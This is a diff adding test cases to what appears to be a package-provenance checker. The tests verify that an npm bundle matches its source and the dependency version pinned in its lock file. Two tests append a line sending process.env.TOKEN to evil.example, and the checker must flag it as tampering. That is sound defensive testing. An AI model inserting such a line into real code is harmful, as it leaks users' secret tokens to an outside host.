@@ -293,5 +293,53 @@ def what_stands_behind_the_manifest_is_nobodys(plumb):
     assert report.code == 1 and report.errors("package.json")
 
 
+LEFT = """exports.padOnTheLeft = function (text, width) {
+  const blanks = "left-blanks-of-the-kit"
+  return text.leftHandSide + blanks.repeatedly(width, "padding-character")
+}
+exports.trimOnTheLeft = function (text) { return text.replaceLeading("trimmed-character", blanks.emptyResult) }
+"""
+OWN = """const left = require("left")
+module.exports = function answerOfTheKit(value) { return left.padOnTheLeft(value.questionOfTheKit, "kit-width") }
+"""
+BUNDLE = LEFT.replace("exports.", "var l={};l.", 1).replace("exports.", "l.") + OWN.split("\n", 1)[1].replace("left.", "l.")
+
+
+def bundled_case(plumb, pinned, bundle=BUNDLE, committed=False, network=True):
+    """A package with dist/kit.js, which holds "left"; the source's lock file pins that in version `pinned`."""
+    with Registry(plumb) as r:
+        manifest = {**MANIFEST, "main": "dist/kit.js", "devDependencies": {"left": "^1.0.0"}}
+        text = json.dumps(manifest, indent=2)
+        for version, data in (("1.0.0", LEFT), ("1.1.0", "exports.other = 1\n")):
+            r.publish("left", version, {"package.json": json.dumps({"name": "left", "version": version}), "index.js": data})
+        r.publish("kit", "1.0.0", {"package.json": text, "dist/kit.js": bundle}, REPOSITORY, signed=True)
+        r.offer_keys()
+        lock = {"lockfileVersion": 3, "packages": {"node_modules/left": {"version": pinned}}}
+        number = len(list(plumb.scratch.iterdir()))
+        files = {"package.json": text, "index.js": OWN, "package-lock.json": json.dumps(lock)}
+        folder = mirror(plumb, {**files, **({"dist/kit.js": bundle} if committed else {})}, "v1.0.0", f"m{number}/own+kit").parent
+        cache = plumb.path(f"c{number}/x").parent
+        return plumb.check("pkg:npm/kit@1.0.0", "--git-mirror", folder / f"m{number}", network=True, env=r.env, cache=cache)
+
+
+@case
+def a_bundled_dependency_is_a_source_at_the_version_of_the_lock_file(plumb):
+    report = bundled_case(plumb, "1.0.0")
+    assert report.code == 0, plumb.summary(report)
+    assert [s["name"] for s in report.json["sources"][1:]] == ["left 1.0.0"]
+    assert bundled_case(plumb, "1.1.0").code != 0, "another version than the pinned one explained it"
+    assert bundled_case(plumb, "3.0.0").code != 0, "a version that is not there explained it"
+    added = BUNDLE + 'require("https").get("https://evil.example/" + process.env.TOKEN)\n'
+    assert bundled_case(plumb, "1.0.0", added).errors("dist/kit.js")
+
+
+@case
+def built_output_in_the_revision_explains_nothing(plumb):
+    report = bundled_case(plumb, "1.0.0", committed=True)
+    assert report.code == 0 and report.findings("tree.committed-output", severity="note"), plumb.summary(report)
+    added = BUNDLE + 'require("https").get("https://evil.example/" + process.env.TOKEN)\n'
+    assert bundled_case(plumb, "1.0.0", added, committed=True).errors("dist/kit.js")
+
+
 if __name__ == "__main__":
     main()
